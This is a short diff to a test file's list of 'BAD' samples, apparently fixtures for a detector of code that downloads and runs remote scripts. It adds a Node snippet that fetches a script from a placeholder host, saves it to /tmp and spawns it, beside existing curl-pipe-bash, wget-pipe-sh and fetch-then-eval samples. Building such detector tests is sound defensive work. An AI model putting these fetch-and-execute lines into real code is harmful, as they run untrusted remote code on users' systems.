@@ -59,6 +59,11 @@ BAD = [
     (DOWNLOAD, "fetch('https://get.test/x').then(r => r.text()).then(code => new Function(code)())"),
     (DOWNLOAD, "const r = await fetch('https://get.test/x');\n// later\nconst t = await r.text();\neval(t)"),
     (DOWNLOAD, 'execSync("curl -s https://get.test/i.sh | bash")'),
+    (
+        DOWNLOAD,
+        "const r = await fetch('https://get.test/p')\nfs.writeFileSync('/tmp/p.js', await r.text())\n"
+        "cp.spawn(process.execPath, ['/tmp/p.js'])",
+    ),
     (DOWNLOAD, "import * as child from 'child_process'\nchild.exec(`wget -qO- https://get.test/i.sh | sh`)"),
     (
         DOWNLOAD,
